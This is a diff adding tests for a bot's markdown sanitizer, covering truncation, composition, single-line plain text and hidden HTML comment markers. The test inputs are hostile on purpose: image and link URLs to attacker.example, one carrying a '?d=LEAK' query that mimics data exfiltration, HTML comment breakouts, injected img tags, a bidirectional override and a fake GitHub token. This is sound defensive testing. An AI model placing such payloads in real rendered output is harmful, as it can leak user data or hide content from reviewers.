@@ -18,11 +18,17 @@ from bot.sanitize import (
     clean_text,
     code_block,
     code_span,
+    compose,
+    fixed,
+    hidden_marker,
     inert_plain,
     is_allowed_link,
+    join,
     neutralize_command,
+    plain_text,
     sanitize_markdown,
     strip_invisible,
+    truncate,
 )
 
 REPO = "Own/Repo"
@@ -471,3 +477,46 @@ def test_o01_o04_random_compositions_are_inert() -> None:
         text = "".join(rng.choice(PIECES) for _ in range(rng.randint(1, 30)))
         out = san(text)
         assert len(out) <= 8 * len(text) + 16
+
+
+def test_o03_truncate_keeps_sanitised_text_inert_at_every_length() -> None:
+    """A cut inside a line could open a code span and turn the URL it holds into a live autolink."""
+    hostile = (
+        "See https://attacker.example/p.png?d=LEAK and `https://attacker.example/x` @octocat\n"
+        "![p](https://attacker.example/i.png) <img src=x> [a](https://attacker.example/) #1\n"
+        "```\nhttps://attacker.example/in-code\n```\n" + "word " * 50 + "https://attacker.example/end"
+    )
+    text = sanitize_markdown(hostile, repo=REPO)
+    assert_inert(text)
+    for limit in range(0, len(text) + 5, 3):
+        cut = truncate(text, limit)
+        assert len(cut) <= max(limit, len("…(truncated)"))
+        assert_inert(cut)
+    assert truncate(text, len(text)) == text
+
+
+def test_o03_own_wording_composes_only_with_sanitised_parts() -> None:
+    hostile = "@octocat ![x](https://attacker.example/p.png) <b>"
+    out = join(
+        "\n",
+        [compose("**{}** found {} issue(s):", inert_plain(hostile), 2), code_span(hostile), fixed("done")],
+    )
+    assert_inert(out)
+    assert out.startswith("**") and out.endswith("done")
+    assert join("", [code_span("a"), code_span("b")]) == f"`a`{WJ}`b`"  # touching spans stay apart
+
+
+def test_o03_plain_text_is_one_clean_bounded_line() -> None:
+    out = plain_text("a\u202eb\n<!-- x -->c\tghp_" + "A" * 36 + " " + "z" * 300)
+    assert "\u202e" not in out and "\n" not in out and "<!--" not in out and "ghp_AAAA" not in out
+    assert len(out) == 255 and out.endswith("…")
+
+
+def test_o04_hidden_marker_holds_plain_tokens_only() -> None:
+    assert (
+        hidden_marker("fp=0123456789abcdef sha=abcdef0")
+        == "<!-- backend-review fp=0123456789abcdef sha=abcdef0 -->"
+    )
+    for bad in ("x --> <img src=x>", "a\nb", "", "job=1 -- x", "<b>"):
+        with pytest.raises(ValueError):
+            hidden_marker(bad)
